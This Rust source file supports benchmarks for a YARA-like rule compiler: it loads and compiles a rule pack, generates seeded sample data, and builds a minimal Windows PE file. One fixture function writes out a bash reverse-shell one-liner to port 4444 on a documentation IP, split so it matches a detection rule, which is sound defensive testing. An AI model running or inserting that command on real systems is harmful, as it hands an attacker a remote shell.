//! What the benches run on: the rule pack of the project, and data made from a seed, so that every machine measures
//! the same bytes.

#![forbid(unsafe_code)]

pub mod cases;
pub mod files;
pub mod random;

use std::path::{Path, PathBuf};

use hallmark_compiler::{Compilation, Loader, Options, Source, compile};

/// The pack includes nothing.
struct NoIncludes;

impl Loader for NoIncludes {
    fn load(&self, _from: &str, include: &str) -> Result<(String, Vec<u8>), String> {
        Err(format!("`{include}`: includes are not available here"))
    }
}

/// The rule files of the pack, by path.
///
/// # Errors
/// A file or folder that can't be read.
pub fn rule_pack() -> std::io::Result<Vec<Source>> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
    let mut folders = vec![root];
    let mut files: Vec<PathBuf> = Vec::new();
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder)? {
            let path = entry?.path();
            if path.is_dir() {
                folders.push(path);
            } else if path.extension().is_some_and(|e| e == "yar") {
                files.push(path);
            }
        }
    }
    files.sort();
    let source = |path: PathBuf| {
        let text = std::fs::read(&path)?;
        Ok(Source { name: path.display().to_string(), namespace: "default".to_owned(), text })
    };
    files.into_iter().map(source).collect()
}

/// Compiles `sources` with default options.
pub fn build(sources: Vec<Source>) -> Compilation {
    compile(sources, &Options::default(), &NoIncludes, &mut |_| {})
}

/// Data of `len` bytes from `seed`: runs of zeros, text and bytes without a pattern in turn, as files have them.
pub fn sample(seed: u64, len: usize) -> Vec<u8> {
    const WORDS: &[&str] =
        &["the ", "return ", "error: ", "config", "0x", "\r\n", "path/", "value=", "{", "}"];
    let mut state = seed | 1;
    let mut next = move || {
        // xorshift64*, by Vigna: the same on every machine.
        state ^= state >> 12;
        state ^= state << 25;
        state ^= state >> 27;
        state.wrapping_mul(0x2545_F491_4F6C_DD1D)
    };
    let mut data = Vec::with_capacity(len + 4096);
    while data.len() < len {
        let run = 64 + (next() % 2048) as usize;
        match next() % 4 {
            0 => data.resize(data.len() + run, 0),
            1 => data.extend((0..run).map(|_| (next() >> 56) as u8)),
            _ => {
                let end = data.len() + run;
                while data.len() < end {
                    data.extend_from_slice(WORDS[(next() % WORDS.len() as u64) as usize].as_bytes());
                }
            }
        }
    }
    data.truncate(len);
    data
}

/// A script that one rule of the pack is written for, put at the start of otherwise harmless data.
pub fn sample_with_match(seed: u64, len: usize) -> Vec<u8> {
    // In two parts, so that this file is none of what it looks for.
    let script = ["#!/bin/bash\nbash -i >& /dev/t", "cp/198.51.100.7/4444 0>&1\n"].concat();
    let mut data = script.into_bytes();
    data.extend(sample(seed, len.saturating_sub(data.len())));
    data
}

/// A 32-bit program for Windows: headers, three sections, and `body` cut off for them. `timestamp` tells programs apart.
pub fn portable_executable(timestamp: u32, body: Vec<u8>) -> Vec<u8> {
    const PE: usize = 0x80;
    const OPTIONAL: usize = PE + 24;
    const SECTIONS: usize = OPTIONAL + 224;
    let mut data = body;
    let headers = 0x400;
    data.resize(data.len().max(2 * headers), 0);
    data[..headers].fill(0);
    let len = data.len() as u32;
    let mut put = |at: usize, bytes: &[u8]| data[at..at + bytes.len()].copy_from_slice(bytes);
    put(0, b"MZ");
    put(0x3C, &(PE as u32).to_le_bytes());
    put(PE, b"PE\0\0");
    // Machine, sections, time, symbols, size of the optional header, characteristics.
    put(PE + 4, &0x14Cu16.to_le_bytes());
    put(PE + 6, &3u16.to_le_bytes());
    put(PE + 8, &timestamp.to_le_bytes());
    put(PE + 20, &224u16.to_le_bytes());
    put(PE + 22, &0x102u16.to_le_bytes());
    // Magic, entry point, image base, alignments, subsystem version, sizes, subsystem, number of directories.
    put(OPTIONAL, &0x10Bu16.to_le_bytes());
    put(OPTIONAL + 16, &0x1000u32.to_le_bytes());
    put(OPTIONAL + 28, &0x40_0000u32.to_le_bytes());
    put(OPTIONAL + 32, &0x1000u32.to_le_bytes());
    put(OPTIONAL + 36, &0x200u32.to_le_bytes());
    put(OPTIONAL + 48, &4u16.to_le_bytes());
    put(OPTIONAL + 56, &0x4000u32.to_le_bytes());
    put(OPTIONAL + 60, &(headers as u32).to_le_bytes());
    put(OPTIONAL + 68, &2u16.to_le_bytes());
    put(OPTIONAL + 92, &16u32.to_le_bytes());
    let size = (len - headers as u32) / 3 / 0x200 * 0x200;
    for (i, name) in (0u32..).zip([b".text\0\0\0", b".rdata\0\0", b".data\0\0\0"]) {
        let at = SECTIONS + 40 * i as usize;
        put(at, name);
        put(at + 8, &size.to_le_bytes());
        put(at + 12, &(0x1000 * (i + 1)).to_le_bytes());
        put(at + 16, &size.to_le_bytes());
        put(at + 20, &(headers as u32 + i * size).to_le_bytes());
        put(at + 36, &0x6000_0020u32.to_le_bytes());
    }
    data
}
